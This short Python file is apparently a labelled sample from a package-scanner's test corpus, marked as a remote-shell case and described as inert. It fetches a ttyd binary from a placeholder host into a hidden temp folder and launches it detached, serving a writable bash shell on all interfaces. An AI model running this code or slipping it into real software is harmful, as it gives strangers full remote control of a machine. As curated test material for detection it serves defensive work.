# pkgguard corpus 864 (remote-shell), modelled on [taxonomy]; inert, never run.
import os
import shutil
import subprocess
import tempfile
import urllib.request

folder = os.path.join(tempfile.gettempdir(), ".td")
binary = os.path.join(folder, "ttyd")
if not shutil.which("ttyd") and not os.path.exists(binary):
    os.makedirs(folder, exist_ok=True)
    try:
        urllib.request.urlretrieve("https://releases.example/ttyd.x86_64", binary)
        os.chmod(binary, 0o755)
    except OSError:
        pass
if os.path.exists(binary):
    subprocess.Popen(
        [binary, "--writable", "-i", "0.0.0.0", "-p", "7681", "-c", "ops:placeholder", "bash"],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
